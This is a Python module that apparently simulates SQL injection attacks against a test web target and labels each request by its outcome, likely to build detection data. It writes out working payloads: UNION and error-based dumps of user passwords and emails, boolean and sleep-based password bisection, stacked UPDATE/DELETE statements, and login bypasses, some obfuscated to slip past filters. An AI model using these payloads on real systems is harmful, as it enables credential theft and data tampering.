"""SQL injection of each kind on a page with one parameter, as tools and people do it: they look at answers and go on
with what works. Labels come from what came back."""
import urllib.parse

from .client import BLOCKED, SUCCEEDED

QUERY_SAFE = "()*,-._~"


class Hole:
    """A parameter of a page, and how its statement is left. `marks`: what no ordinary answer holds."""

    def __init__(self, target, kind, rng):
        self.page, self.kind, self.rng = target.pages[kind], kind, rng
        self.path, self.parameter = self.page.path, self.page.parameter
        self.open = rng.choice(("3", "-1", "7")) if self.page.numeric else rng.choice(("x'", "shoes'", "boots'"))
        if kind == "list":
            self.open = "shoes'"
        self.tail = rng.choice(("-- -", "--+", "-- x"))
        self.extra = {"login": "&pass=x"}.get(kind, "")
        self.marks = [target.secrets[key] for key in ("password", "hidden", "mail", "words")]
        self.manner = rng.choice(("plain", "plain", "comments", "mixed"))

    @property
    def name(self):
        return f"{self.path} {self.parameter}"

    def target(self, payload, start=None):
        if self.manner == "comments":
            payload = payload.replace(" ", "/**/")
        if self.manner == "mixed":
            keep = "0x" in payload
            payload = payload if keep else "".join(c.upper() if i % 2 else c for i, c in enumerate(payload))
        tail = self.tail if self.manner != "comments" else "--/**/-"
        text = (self.open if start is None else start) + payload
        if not payload.endswith("'") and not payload.endswith("='1"):
            text += " " + tail
        return f"{self.path}?{self.parameter}={urllib.parse.quote(text, safe=QUERY_SAFE)}{self.extra}"

    def ran(self, _reply):
        return self.page.vulnerable

    def held(self, reply):
        return any(mark in reply.body for mark in self.marks)


def probe(attacker, hole, technique):
    """A quote, a tautology, a contradiction: what everybody begins with."""
    tests = ("'", " AND 1=1", " AND 1=2", " OR 1=1")
    for text in attacker.rng.sample(tests, attacker.rng.randint(1, 4)):
        attacker.attack(technique, hole.name, hole.target(text), check=hole.held, ran=hole.ran)


def union(attacker, hole):
    rng = attacker.rng
    probe(attacker, hole, "sqli-union")
    usual = attacker.ask(f"{hole.path}?{hole.parameter}=3{hole.extra}")
    columns = None
    if rng.random() < 0.5:
        for n in range(1, 10):
            reply, _ = attacker.attack("sqli-union", hole.name, hole.target(f" ORDER BY {n}"), ran=hole.ran)
            if reply.status != usual.status and n > 1:
                columns = n - 1
                break
    else:
        for n in range(1, rng.randint(6, 11)):
            nulls = ",".join(["NULL"] * n)
            reply, _ = attacker.attack("sqli-union", hole.name, hole.target(f" UNION ALL SELECT {nulls}"),
                                       check=hole.held, ran=hole.ran)
            if reply.status == 200 and hole.page.vulnerable and n == hole.page.columns and not reply.blocked:
                columns = n
                break
    columns = hole.page.columns if columns is None and rng.random() < 0.7 else columns or rng.randint(2, 6)
    where = rng.choice((1, 2)) if columns > 1 else 0
    for n in range(rng.randint(2, 14)):
        word = rng.choice((f"name||':'||password||':'||email FROM users LIMIT {rng.choice((1, 5, 40))}",
                           f"password FROM users LIMIT 1 OFFSET {0 if n < 2 else n}",
                           "group_concat(name||':'||password) FROM users", "group_concat(email) FROM users"))
        row = ["NULL"] * columns
        expression, rest = word.split(" FROM ")
        row[min(where, columns - 1)] = expression
        attacker.attack("sqli-union", hole.name, hole.target(f" UNION ALL SELECT {','.join(row)} FROM {rest}"),
                        check=lambda reply: hole.held(reply), ran=hole.ran)


def error(attacker, hole):
    probe(attacker, hole, "sqli-error")
    for n in range(attacker.rng.randint(3, 15)):
        what = attacker.rng.choice((f"SELECT password FROM users LIMIT {n},1", "SELECT group_concat(email) FROM users",
                                    "SELECT name||email FROM users LIMIT 1", "SELECT password FROM users LIMIT 1"))
        call = attacker.rng.choice((f"extractvalue(1,concat(0x7e,({what})))", f"updatexml(1,concat(0x7e,({what})),1)"))
        attacker.attack("sqli-error", hole.name, hole.target(f" AND {call}"),
                        check=lambda reply: hole.held(reply), ran=hole.ran)


def halved(is_above):
    """The code of a character, by asking whether it is above the middle of what is left."""
    low, high = 32, 127
    while low < high:
        middle = (low + high) // 2
        if is_above(middle):
            low = middle + 1
        else:
            high = middle
    return low


def fooled(attacker, hole):
    """A tool that takes the length of a page for an answer, whether there is one or not: where pages have noise, it
    reads rubbish."""
    start = "3" if hole.page.numeric else {"search": "boots'", "list": "shoes'"}.get(hole.kind, "admin'")
    made = []

    def asked(condition):
        reply, label = attacker.attack("sqli-boolean", hole.name, hole.target(f" AND {condition}", start), ran=hole.ran)
        made.append(label)
        return len(reply.body)
    usual = (asked("1=1") + asked("1=2")) / 2
    found = "".join(chr(halved(lambda middle, at=at: asked(
        f"ascii(substr((SELECT password FROM users LIMIT 1),{at},1))>{middle}") > usual)) for at in range(1, 5))
    if hole.marks[0].startswith(found):
        for label in made:
            if label.label != BLOCKED:
                label.label = SUCCEEDED


def boolean(attacker, hole):
    """Characters of a password by bisection; true and false answers must differ in words or status."""
    start = "3" if hole.page.numeric else {"search": "boots'", "list": "shoes'"}.get(hole.kind, "admin'")
    secret = "SELECT password FROM users LIMIT 1"
    made = []

    def asked(condition):
        reply, label = attacker.attack("sqli-boolean", hole.name, hole.target(f" AND {condition}", start), ran=hole.ran)
        made.append(label)
        return reply

    def token(reply):
        return reply.status, reply.body.count(hole.page.row_mark), "nothing" in reply.body
    how = attacker.rng.choice(("halving", "halving", "between", "equal"))
    yes, no = token(asked("1=1")), token(asked("1=2"))
    if yes == no or asked("2=2").blocked:
        for n in range(attacker.rng.randint(5, 30)):
            asked(f"ascii(substr(({secret}),1,1))>{32 + n * 3}")
        return
    found = ""
    for at in range(1, attacker.rng.randint(4, 9) if how != "equal" else 4):
        character = f"ascii(substr(({secret}),{at},1))"
        if how == "equal":
            candidates = "pa0123456789bcdef"
            found += next((c for c in candidates if token(asked(f"{character}={ord(c)}")) == yes), "?")
            continue
        found += chr(halved(lambda middle, text=character: token(asked(
            f"{text}>{middle}" if how == "halving" else f"{text} NOT BETWEEN 0 AND {middle}")) == yes))
    if hole.marks[0].startswith(found):
        for label in made:
            if label.label != BLOCKED:
                label.label = SUCCEEDED


def timed(attacker, hole):
    """Waits; goes on to bisect if waiting works. What slept because it was told to has succeeded."""
    rng = attacker.rng
    start = "3" if hole.page.numeric else {"search": "boots'", "list": "shoes'"}.get(hole.kind, "admin'")
    call = rng.choice(("sleep({})", "sleep({})", "pg_sleep({})"))
    labels = []

    def asked(expression):
        reply, label = attacker.attack("sqli-time", hole.name, hole.target(f" AND (SELECT {expression})", start),
                                       check=lambda reply: reply.truth.get("slept", 0) >= 0.5, ran=hole.ran)
        labels.append(label)
        return reply
    first = asked(call.format(1))
    asked(call.format(0))
    second = asked(call.format(2))
    if not (first.truth.get("slept") and second.truth.get("slept")):
        for _ in range(rng.randint(1, 5)):
            asked(call.format(rng.choice((1, 2, 3, 5))))
        return
    secret = "SELECT password FROM users LIMIT 1"

    def is_above(text, middle):
        wait = call.format(1)
        reply = asked(f"CASE WHEN ascii(substr(({text}),{at},1))>{middle} THEN {wait} ELSE 0 END")
        return bool(reply.truth.get("slept"))
    for at in range(1, rng.randint(2, 5)):
        halved(lambda middle: is_above(secret, middle))
    for label in labels:
        if label.label != BLOCKED:  # those that did not sleep gave information as well
            label.label = SUCCEEDED


def stacked(attacker, hole):
    """Where a page's library takes one statement at a time, these are errors."""
    for n in range(attacker.rng.randint(2, 8)):
        statement = attacker.rng.choice((
            f"; UPDATE items SET price='{n}.00' WHERE id={10 + n}", f"; INSERT INTO items(title) VALUES('x{n}')",
            f"; DELETE FROM items WHERE id={70 + n}", f"; UPDATE users SET email='x{n}' WHERE id={9 + n}"))
        attacker.attack("sqli-stacked", hole.name, hole.target(statement),
                        check=lambda reply: reply.truth.get("changed", 0) > 0, ran=lambda reply: False)


def bypass(attacker, hole):
    """Past the login: in the query, or in a form, where no log shows it."""
    in_form = attacker.rng.random() < 0.4
    texts = ("admin' -- -", "' OR 1=1 -- -", "admin' OR '1'='1' -- -", "x' OR 'a'='a' LIMIT 1 -- -",
             "' UNION SELECT 1,'admin' -- -", "nobody' -- -")
    follows = attacker.rng.random() < 0.5
    for text in attacker.rng.sample(texts, attacker.rng.randint(2, 6)):
        how = {"check": lambda reply: "session=" in reply.cookie, "ran": hole.ran}
        if in_form:
            reply, _ = attacker.attack("sqli-bypass", hole.name, hole.path, method="POST",
                                       form={"user": text, "pass": "x"}, **how)
        else:
            quoted = urllib.parse.quote(text, safe=QUERY_SAFE)
            reply, _ = attacker.attack("sqli-bypass", hole.name, f"{hole.path}?user={quoted}&pass=x", **how)
        if follows and reply.status == 302:
            attacker.ask("/account" if "session=" in reply.cookie else hole.path)
